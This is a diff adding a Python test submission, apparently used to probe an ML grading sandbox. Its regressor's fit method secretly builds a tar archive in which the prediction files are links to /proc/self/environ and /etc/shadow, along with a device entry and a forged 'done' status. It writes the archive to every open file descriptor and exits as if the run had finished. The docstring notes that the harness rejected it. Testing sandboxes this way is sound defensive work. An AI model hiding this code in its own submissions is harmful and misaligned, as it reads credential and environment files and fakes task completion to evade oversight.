@@ -1,0 +1,71 @@
+"""Sends links in place of predictions: to files of the trainer, of the scorer, and to devices.
+
+Outcome: crashed. An archive with a link in it is taken by nobody.
+Says: before it was done
+"""
+
+import io
+import json
+import os
+import tarfile
+
+import numpy as np
+
+N_TRAIN, N_TEST = 60, 30
+
+
+def saved(array, **options):
+    content = io.BytesIO()
+    np.save(content, array, **options)
+    return content.getvalue()
+
+
+def status(**changes):
+    times = {"train": 0.1, "valid": 0.1, "test": 0.1}
+    return json.dumps({"stage": "done", "reason": "", "traceback": None, "times_s": times, **changes}).encode()
+
+
+def packed(files):
+    sent = io.BytesIO()
+    with tarfile.open(fileobj=sent, mode="w") as archive:
+        for name, content in files.items():
+            header = tarfile.TarInfo(name)
+            header.size = len(content)
+            archive.addfile(header, io.BytesIO(content))
+    return sent.getvalue()
+
+
+def send(content):
+    """To whichever pipe takes the results, and end as if all were done."""
+    for number in range(3, 64):
+        try:
+            os.write(number, content)
+        except OSError:
+            continue
+    os._exit(0)
+
+
+def attack():
+    sent = io.BytesIO()
+    with tarfile.open(fileobj=sent, mode="w") as archive:
+        for name, kind, target in (
+            ("train.values.npy", tarfile.SYMTYPE, "/proc/self/environ"),
+            ("test.values.npy", tarfile.LNKTYPE, "/etc/shadow"),
+            ("device", tarfile.CHRTYPE, ""),
+        ):
+            header = tarfile.TarInfo(name)
+            header.type, header.linkname = kind, target
+            archive.addfile(header)
+        header = tarfile.TarInfo("status.json")
+        header.size = len(status())
+        archive.addfile(header, io.BytesIO(status()))
+    send(sent.getvalue())
+
+
+class Regressor:
+    def fit(self, X, y):
+        self.coefficients = np.linalg.lstsq(np.c_[X, np.ones(len(X))], y, rcond=None)[0]
+        attack()
+
+    def predict(self, X):
+        return np.c_[X, np.ones(len(X))] @ self.coefficients
